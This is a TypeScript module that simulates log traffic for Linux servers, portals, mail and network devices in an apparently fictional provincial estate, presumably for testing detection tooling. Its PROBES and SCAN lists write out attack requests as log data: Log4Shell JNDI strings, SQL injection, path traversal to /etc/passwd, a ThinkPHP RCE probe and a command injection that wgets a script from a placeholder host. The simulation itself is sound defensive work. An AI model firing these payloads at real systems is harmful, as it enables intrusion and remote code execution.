/** Linux servers, mail, public portals with what the Internet throws at them, and network devices that write syslog. */
import type { MadeUp } from '../../../collector/simulate/made-up.ts';
import { accessLine, dpkgLine, sshdLine, syslogLine } from '../../../collector/simulate/linux-records.ts';
import type { SimulatedHost } from '../estate.ts';
import type { Doing, HostEvent } from './plan.ts';

const LINUX = ['linux', 'portal', 'mail', 'gateway'] as const;
const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const ADMINS = ['quantri', 'it.hung', 'it.lan'];
const HANOI_MS = 7 * 3_600_000;

/** As syslog writes it, in the host's own time. */
function head(made: MadeUp, { hostname }: SimulatedHost, program: string): string {
  const time = new Date(made.nowMs + HANOI_MS);
  const day = String(time.getUTCDate()).padStart(2, ' ');
  return `${MONTHS[time.getUTCMonth()] ?? ''} ${day} ${time.toISOString().slice(11, 19)} ${hostname} ${program}[${1_000 + made.number(60_000)}]:`;
}

const sshd = (line: (made: MadeUp) => string, waitMs?: number): HostEvent => ({
  channel: 'sshd',
  origin: '/var/log/auth.log',
  line,
  waitMs,
});
const syslog = (line: (made: MadeUp) => string, waitMs?: number): HostEvent => ({
  channel: 'linux-syslog',
  origin: '/var/log/syslog',
  line,
  waitMs,
});

/** An address of the Internet, always the same for one number; of blocks that are kept for documentation and tests. */
const stranger = (n: number): string => `198.${18 + (n % 2)}.${(n >> 8) & 255}.${n & 255}`;

function access(
  made: MadeUp,
  ip: string,
  request: string,
  status: number,
  agent: string,
  bytes = 512,
): string {
  const time = new Date(made.nowMs);
  const when = `${String(time.getUTCDate()).padStart(2, '0')}/${MONTHS[time.getUTCMonth()] ?? ''}/${time.getUTCFullYear()}:${time.toISOString().slice(11, 19)} +0000`;
  return `${ip} - - [${when}] "${request} HTTP/1.1" ${status} ${bytes} "-" "${agent}"`;
}
const web = (line: (made: MadeUp) => string, waitMs?: number): HostEvent => ({
  channel: 'web-access',
  origin: '/var/log/nginx/access.log',
  line,
  waitMs,
});

const BOT =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/98.0.4758.102 Safari/537.36';
/** What portals that face the Internet are asked for all day, by nobody in particular; and what a portal answers. */
const PROBES: readonly (readonly [request: string, status: number, agent: string])[] = [
  ['GET /.env', 404, BOT],
  ['GET /.git/config', 403, BOT],
  ['GET /wp-login.php', 404, BOT],
  ['GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 404, 'Custom-AsyncHttpClient'],
  ['POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', 400, 'libredtail-http'],
  [
    'GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget+http://198.18.0.9/x.sh`)',
    404,
    BOT,
  ],
  ['GET /?x=${jndi:ldap://198.18.7.7:1389/a}', 200, '${jndi:ldap://198.18.7.7:1389/a}'],
  ['GET /index.php?id=1%27%20UNION%20SELECT%201,2,3--%20-', 404, BOT],
  [
    'GET /index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello',
    404,
    BOT,
  ],
  ['GET /shell.php', 404, BOT],
  ['GET /boaform/admin/formLogin?username=admin&psd=admin', 404, BOT],
  ['GET /actuator/gateway/routes', 404, 'Mozilla/5.0 zgrab/0.x'],
  ['GET /HNAP1', 404, BOT],
  ['GET /solr/admin/info/system', 404, BOT],
  ['GET /static/../../../../etc/passwd', 400, BOT],
  ['GET /tim-kiem?q=1%27%20OR%20%271%27=%271', 200, 'sqlmap/1.8 (https://sqlmap.org)'],
];

const SCAN: readonly (readonly [request: string, status: number])[] = [
  ['GET /tra-cuu?ma=1%27%20UNION%20SELECT%20NULL,NULL--', 200],
  ['GET /tra-cuu?ma=1%27%20AND%20SLEEP(5)--', 200],
  ['GET /..%2f..%2f..%2fetc/passwd', 400],
  ['GET /?x=${jndi:ldap://10.1.9.50/nessus}', 200],
  ['GET /cgi-bin/test.cgi?ip=127.0.0.1;id', 404],
  ['GET /shell.jsp', 404],
  ['GET /.git/HEAD', 404],
  ['POST /uploads/nessus_test.php', 404],
];

const FORTI = '<189>date={d} time={t} devname="FG-TINH" devid="FG100FTK" eventtime=1 tz="+0700" ';
function forti(made: MadeUp, rest: string): string {
  const time = new Date(made.nowMs + HANOI_MS).toISOString();
  return FORTI.replace('{d}', time.slice(0, 10)).replace('{t}', time.slice(11, 19)) + rest;
}

export const UNIX_DAY: readonly Doing[] = [
  {
    name: 'sessions and services of Linux',
    kinds: LINUX,
    among: { share: 1 },
    perDay: 60,
    hours: 'any',
    events: (made, host) => {
      const who = made.pick(ADMINS);
      return made.chance(0.3)
        ? [
            sshd(
              (at) =>
                `${head(at, host, 'sshd')} Accepted publickey for ${who} from 10.1.9.${10 + at.number(6)} port ${40_000 + at.number(20_000)} ssh2: ED25519 SHA256:${at.hex(43)}`,
            ),
            sshd(
              (at) =>
                `${head(at, host, 'sshd')} pam_unix(sshd:session): session opened for user ${who}(uid=1000) by (uid=0)`,
            ),
          ]
        : [made.chance(0.2) ? sshd(sshdLine) : syslog(syslogLine)];
    },
  },
  {
    name: 'administrators of Linux work as root',
    kinds: LINUX,
    among: { share: 0.5 },
    perDay: 5,
    hours: 'office',
    events: (made, host) => {
      const who = made.pick(ADMINS);
      const line = made.pick([
        '/usr/bin/systemctl restart nginx',
        '/usr/bin/apt update',
        '/usr/bin/apt-get -y upgrade',
        '/usr/bin/tail -f /var/log/nginx/error.log',
        '/usr/bin/docker compose up -d',
        '/usr/bin/vi /etc/nginx/sites-available/portal',
        '/usr/sbin/ufw status',
        '/usr/bin/journalctl -u postgresql',
        '/usr/bin/rsync -a /srv/data backup@10.1.8.2:/kho',
        '/bin/bash',
        '/usr/bin/crontab -e',
        '/usr/sbin/useradd -m nguoi-moi',
        '/usr/bin/tcpdump -i eth0 -c 100 port 443',
        '/usr/bin/certbot renew',
      ]);
      return [
        ...(made.chance(0.05)
          ? [
              sshd(
                (at) =>
                  `${head(at, host, 'sudo')} ${who} : 1 incorrect password attempt ; TTY=pts/0 ; PWD=/home/${who} ; USER=root ; COMMAND=${line}`,
              ),
            ]
          : []),
        sshd(
          (at) =>
            `${head(at, host, 'sudo')} ${who} : TTY=pts/0 ; PWD=/home/${who} ; USER=root ; COMMAND=${line}`,
        ),
        sshd(
          (at) =>
            `${head(at, host, 'sudo')} pam_unix(sudo:session): session opened for user root(uid=0) by ${who}(uid=1000)`,
        ),
      ];
    },
  },
  {
    name: 'cron and its jobs',
    kinds: LINUX,
    among: { share: 1 },
    perDay: 40,
    hours: 'any',
    events: (_made, host) => [
      syslog(
        (at) =>
          `${head(at, host, 'CRON')} (${at.pick(['root', 'www-data', 'postgres'])}) CMD (${at.pick(['cd / && run-parts --report /etc/cron.hourly', '[ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean', '/usr/bin/php /var/www/portal/cron.php >/dev/null 2>&1', '/opt/saoluu/pg-dump.sh', 'curl -fsS -m 10 https://10.1.9.9/ping/srv > /dev/null'])})`,
      ),
    ],
  },
  {
    name: 'packages are upgraded',
    kinds: LINUX,
    among: { share: 0.6 },
    perDay: 12,
    hours: 'night',
    events: () => [{ channel: 'dpkg', origin: '/var/log/dpkg.log', line: dpkgLine }],
  },
  {
    name: 'the administrators mistype, too',
    kinds: LINUX,
    among: { share: 0.3 },
    perDay: 1,
    hours: 'office',
    events: (made, host) => {
      const [who, ip] = [made.pick(ADMINS), `10.1.9.${10 + made.number(6)}`];
      return [
        ...Array.from({ length: 1 + made.number(3) }, () =>
          sshd(
            (at) => `${head(at, host, 'sshd')} Failed password for ${who} from ${ip} port 51514 ssh2`,
            4_000,
          ),
        ),
        sshd(
          (at) => `${head(at, host, 'sshd')} Accepted password for ${who} from ${ip} port 51514 ssh2`,
          4_000,
        ),
      ];
    },
  },
  {
    name: 'the scanner knocks at Linux',
    kinds: ['linux', 'portal', 'mail'],
    among: { share: 1 },
    perDay: 1,
    hours: 'night',
    events: (_made, host) => [
      ...['root', 'admin', 'nessus', 'oracle', 'test', 'guest'].map((name) =>
        sshd(
          (at) =>
            `${head(at, host, 'sshd')} Failed password for ${name === 'root' ? '' : 'invalid user '}${name} from 10.1.9.50 port 51000 ssh2`,
          900,
        ),
      ),
      sshd(
        (at) => `${head(at, host, 'sshd')} Accepted password for svc-nessus from 10.1.9.50 port 51000 ssh2`,
      ),
    ],
  },
  {
    name: 'the scanner asks the web servers for everything',
    kinds: ['portal'],
    among: { share: 1 },
    perDay: 1,
    hours: 'night',
    events: () => [
      ...SCAN.flatMap(([request, status]) =>
        Array.from({ length: 3 }, () =>
          web((at) => access(at, '10.1.9.50', request, status, 'Mozilla/5.0 (compatible; Nessus)'), 400),
        ),
      ),
      ...Array.from({ length: 130 }, (_, n) =>
        web(
          (at) => access(at, '10.1.9.50', `GET /thu-${n}.php`, 404, 'Mozilla/5.0 (compatible; Nessus)'),
          150,
        ),
      ),
    ],
  },
  {
    name: 'citizens ask the portals',
    kinds: ['portal'],
    among: { share: 1 },
    perDay: 600,
    hours: 'office',
    events: () => [web(accessLine)],
  },
  {
    name: 'the Internet asks the portals',
    kinds: ['portal'],
    among: { share: 1 },
    perDay: 60,
    hours: 'any',
    events: (made) => {
      const ip = stranger(made.number(40_000));
      return Array.from({ length: 1 + made.number(5) }, () => {
        const [request, status, agent] = PROBES[made.number(PROBES.length)] ?? ['GET /', 200, BOT];
        return web((at) => access(at, ip, request, status, agent));
      });
    },
  },
  {
    name: 'the Internet tries passwords where SSH is open to it',
    kinds: ['portal'],
    among: { hosts: 1 },
    perDay: 80,
    hours: 'any',
    events: (made, host) => {
      const ip = stranger(made.number(40_000));
      return Array.from({ length: 1 + made.number(9) }, () =>
        sshd(
          (at) =>
            `${head(at, host, 'sshd')} Failed password for ${at.pick(['root', 'invalid user admin', 'invalid user ubuntu', 'invalid user oracle', 'invalid user postgres'])} from ${ip} port ${30_000 + at.number(20_000)} ssh2`,
          3_000,
        ),
      );
    },
  },
  {
    name: 'the mail server turns away guesses',
    kinds: ['mail'],
    among: { share: 1 },
    perDay: 150,
    hours: 'any',
    events: (made, host) => {
      const ip = stranger(made.number(40_000));
      return [
        syslog(
          (at) =>
            `${head(at, host, 'postfix/smtpd')} warning: unknown[${ip}]: SASL LOGIN authentication failed: UGFzc3dvcmQ6`,
        ),
        syslog(
          (at) =>
            `${head(at, host, 'dovecot')} imap-login: Login: user=<${at.person()}@tinh.gov.vn>, method=PLAIN, rip=10.1.3.${at.number(250)}, lip=10.1.8.25, mpid=${at.number(60_000)}, TLS, session=<${at.hex(12)}>`,
        ),
      ];
    },
  },
  {
    name: 'firewalls, switches and VPN of the province',
    kinds: ['gateway'],
    among: { share: 1 },
    perDay: 700,
    hours: 'any',
    events: (made, host) => {
      const n = made.number(40_000);
      const choices: ((at: MadeUp) => string)[] = [
        (at) =>
          forti(
            at,
            `logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" srcip=10.1.4.${at.number(250)} srcport=50123 srcintf="lan" dstip=118.70.1.${at.number(250)} dstport=443 dstintf="wan1" action="close" policyid=12 service="HTTPS" sentbyte=5210 rcvdbyte=40120`,
          ),
        (at) =>
          forti(
            at,
            `logid="0000000013" type="traffic" subtype="local" level="notice" vd="root" srcip=${stranger(n)} srcport=40123 srcintf="wan1" dstip=203.0.113.1 dstport=${at.pick(['22', '23', '3389', '445', '8080'])} dstintf="root" action="deny" policyid=0 service="tcp" sentbyte=0 rcvdbyte=0`,
          ),
        (at) =>
          forti(
            at,
            `logid="0101039424" type="event" subtype="vpn" level="information" vd="root" logdesc="SSL VPN tunnel up" action="tunnel-up" tunneltype="ssl-tunnel" remip=${stranger(n)} user="${at.person()}" group="VPN-CanBo" msg="SSL tunnel established"`,
          ),
        (at) =>
          forti(
            at,
            `logid="0101039426" type="event" subtype="vpn" level="alert" vd="root" logdesc="SSL VPN login fail" action="ssl-login-fail" tunneltype="ssl-web" remip=${stranger(n)} user="${at.pick(['admin', 'test', 'vpn', 'guest'])}" reason="sslvpn_login_permission_denied" msg="SSL user failed to logged in"`,
          ),
        (at) =>
          `<189>${at.number(9_000)}: sw-${at.number(40)}: *${head(at, host, 'x').slice(0, 15)}.123: %LINK-3-UPDOWN: Interface GigabitEthernet0/${at.number(24)}, changed state to up`,
        (at) =>
          `<189>${at.number(9_000)}: sw-${at.number(40)}: *${head(at, host, 'x').slice(0, 15)}.123: %SYS-5-CONFIG_I: Configured from console by quantri on vty0 (10.1.9.11)`,
        (at) =>
          `<30>${head(at, host, 'x').slice(0, 15)} MikroTik-xa-${at.number(90)} system,info,account user admin logged in from 10.1.9.12 via winbox`,
        (at) =>
          `<30>${head(at, host, 'x').slice(0, 15)} MikroTik-xa-${at.number(90)} system,error,critical login failure for user admin from ${stranger(n)} via ssh`,
      ];
      const weights = [40, 30, 8, 3, 8, 1, 3, 3];
      let left = made.number(weights.reduce((sum, one) => sum + one, 0));
      const at = weights.findIndex((weight) => (left -= weight) < 0);
      return [syslog(choices[at] ?? choices[0] ?? syslogLine)];
    },
  },
];
